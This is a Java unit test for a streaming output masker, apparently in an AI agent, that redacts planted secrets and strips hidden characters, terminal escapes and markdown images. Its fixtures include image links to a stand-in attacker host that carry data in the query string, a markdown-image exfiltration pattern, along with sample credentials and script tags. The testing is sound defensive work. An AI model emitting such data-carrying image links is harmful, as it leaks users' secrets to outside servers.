package dev.vedette.agent.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vedette.inspection.HiddenText;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StreamMaskerTest {
    private static final List<String> SECRETS = List.of(
            Planted.aws(),
            Planted.anthropic(),
            Planted.jwt(40),
            Planted.jwt(2_000),
            Planted.privateKey(26),
            Planted.password());

    private static String streamed(StreamMasker masker, String text, Random random, int longest) {
        StringBuilder out = new StringBuilder();
        int at = 0;
        while (at < text.length()) {
            int end = Math.min(text.length(), at + 1 + random.nextInt(longest));
            out.append(masker.feed(text.substring(at, end)));
            at = end;
        }
        return out.append(masker.flush()).toString();
    }

    private static String streamed(String text, int chunk) {
        return streamed(new StreamMasker(OutputPolicy.STRICT, Planted.MASK), text, new Random(1), chunk);
    }

    private static String whole(String text) {
        return new OutputCleaning(OutputPolicy.STRICT, Planted.MASK).clean(text).text();
    }

    private static String answer(Random random) {
        StringBuilder text = new StringBuilder();
        int blocks = 1 + random.nextInt(10);
        for (int block = 0; block < blocks; block++) {
            text.append(block(random));
        }
        return text.toString();
    }

    private static String block(Random random) {
        return switch (random.nextInt(12)) {
            case 0 -> "\n\nThe key is " + SECRETS.get(random.nextInt(3)) + " as asked.\n";
            case 1 -> "\n\n" + SECRETS.get(4) + "\n\n";
            case 2 -> "\n- password = \"" + Planted.password() + "\"\n- `code` and [a link](https://b.example/x)\n";
            case 3 ->
                "\n  - deeper ![x](https://evil.example/?d=" + Planted.random(random, 30) + ")\n\n    more of it\n";
            case 4 -> "\n\n```java\nint[] a = b[0](c);\n![x](https://evil.example/)\n```\n";
            case 5 -> "\n> quoted <b>bold</b> https://evil.example/" + Planted.random(random, 20) + " end\n";
            case 6 ->
                "hid\u200b\u200c\u202eden \ud83d\ude00\ufe0f\u200d\ud83d\udd25 \u001b[31mred\u001b]8;;https://x.example\u0007link\u001b]8;;\u0007\n";
            case 7 -> "\n\nAuthorization: Bearer " + SECRETS.get(3) + "\n\n";
            case 8 -> "\n\n<div>\n![x](https://evil.example)\n</div>\n\n";
            case 9 -> "\n\n1. one\n2. two `![x](y)` and ` open\n\n       far in\n\n";
            case 10 -> "word ".repeat(random.nextInt(120)) + "! 1 < 2 \u4e2d\u6587\n";
            default ->
                "\nTitle\n---\n\n***\n\tindented ![x](https://evil.example)\n\n| a | b |\n|---|---|\n| c | d |\n";
        };
    }

    @Test
    void anyChunksGiveWhatTheWholeGives() {
        Random random = new Random(20);
        for (int round = 0; round < 200; round++) {
            String text = answer(random);
            int longest = 1 + random.nextInt(round % 4 == 0 ? 2_000 : 40);
            int window = 64 + random.nextInt(400);
            StreamMasker masker = new StreamMasker(OutputPolicy.STRICT, Planted.MASK, window);
            String streamed = streamed(masker, text, random, longest);
            for (String secret : SECRETS) {
                assertThat(Planted.shows(streamed, secret))
                        .as("round %d", round)
                        .isFalse();
            }
            assertThat(HiddenText.count(streamed)).isZero();
            assertThat(streamed).as("round %d", round).isEqualTo(whole(text));
        }
    }

    @Test
    void plainWordsComeThroughInTime() {
        StreamMasker masker = new StreamMasker(OutputPolicy.STRICT, Planted.MASK);
        String text = "Some words that say nothing of note, one after the other. ".repeat(40);
        int told = 0;
        int mostBehind = 0;
        for (int at = 0; at < text.length(); at++) {
            told += masker.feed(text.substring(at, at + 1)).length();
            mostBehind = Math.max(mostBehind, at + 1 - told);
        }
        assertThat(mostBehind).isBetween(StreamMasker.DEFAULT_WINDOW, 2 * StreamMasker.DEFAULT_WINDOW + 256);
        assertThat(told + masker.flush().length()).isEqualTo(text.length());
    }

    @Test
    void aSecretLongerThanWhatIsHeldIsMaskedInPieces() {
        String key = Planted.privateKey(3_000);
        String streamed = streamed("see " + key + " end", 500);
        assertThat(Planted.shows(streamed, key)).isFalse();
        assertThat(streamed)
                .startsWith("see [REDACTED:private-key")
                .endsWith("end")
                .hasSizeLessThan(2_000);
        String token = "Bearer " + Planted.random(new Random(5), 200_000);
        assertThat(Planted.shows(streamed("Authorization: " + token + " end", 500), token))
                .isFalse();
    }

    @Test
    void aLongRunOfCharactersIsLetGo() {
        String run = "data:" + "ab/".repeat(60_000);
        StreamMasker masker = new StreamMasker(OutputPolicy.STRICT, Planted.MASK);
        int told = 0;
        for (int at = 0; at < run.length(); at += 1_000) {
            told += masker.feed(run.substring(at, Math.min(run.length(), at + 1_000)))
                    .length();
        }
        assertThat(run.length() - told).isLessThan(150_000);
        assertThat(told + masker.flush().length()).isEqualTo(run.length());
    }

    @Test
    void aReferenceWhoseDefinitionComesLaterIsInert() {
        String text = "![x][1] and [y][1]\n\n" + "words and words. ".repeat(100) + "\n\n[1]: https://evil.example/p\n";
        assertThat(streamed(text, 7)).startsWith("![x][1] and [y][1]\n").endsWith("\n\n1: evil.example\n");
    }

    @Test
    void whatStandsInALongListIsStillAList() {
        String text = "- item\n\n" + "    text ![x](https://evil.example/p)\n\n    words\n\n".repeat(400);
        assertThat(streamed(text, 9)).doesNotContain("](");
    }

    @Test
    void longBlocksLoseTheirMarkupRatherThanLetItThrough() {
        String paragraph = "word [".repeat(9_000) + "![x](https://evil.example/p)";
        assertThat(streamed(paragraph, 300)).doesNotContain("](");
        String item = "- a\n" + "  line ![x](https://evil.example/p)\n".repeat(4_000);
        assertThat(streamed(item, 300)).doesNotContain("](");
        String html = "<script>\n" + "a(); \n".repeat(20_000) + "</script>\n";
        assertThat(streamed(html, 300)).doesNotContain("<script>");
    }

    @Test
    void longCodeStaysAsItIs() {
        String code = "```\n" + "int[] a = b[0](c); // <img>\n".repeat(5_000) + "```\n";
        assertThat(streamed(code, 300)).isEqualTo(code);
    }

    @Test
    void aLineThatOnlyBeginsLikeTheEndOfCodeIsCode() {
        String text = "```\na\n```x\n![x](https://evil.example/p)\n```\n\n![x](https://evil.example/p)\n";
        assertThat(streamed(text, 1)).isEqualTo(whole(text));
    }

    @Test
    void changesAreCounted() {
        StreamMasker masker = new StreamMasker(OutputPolicy.STRICT, Planted.MASK);
        masker.feed("a\u200bb " + Planted.aws() + " ![x](https://evil.example)");
        masker.flush();
        assertThat(masker.counts())
                .containsEntry("secrets", 1)
                .containsEntry("hidden", 1)
                .containsEntry("images", 1);
        assertThatThrownBy(() -> new StreamMasker(OutputPolicy.STRICT, Planted.MASK, 1))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a",
                "[",
                "- ",
                "> ",
                "`",
                "\u200b",
                "\u001b]",
                "\u001b[0",
                "AKIA",
                "-----BEGIN PRIVATE KEY-----",
                "<!--",
                "password=\"",
                "word ",
                "- a\n",
                "```\n",
                "![x](",
                "\ud83d\ude00\u200d",
                "eyJ."
            })
    void aMegabyteInSmallPiecesTakesBoundedTime(String seed) {
        String text = seed.repeat(1_000_000 / seed.length());
        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(60), () -> streamed(text, 64));
    }
}
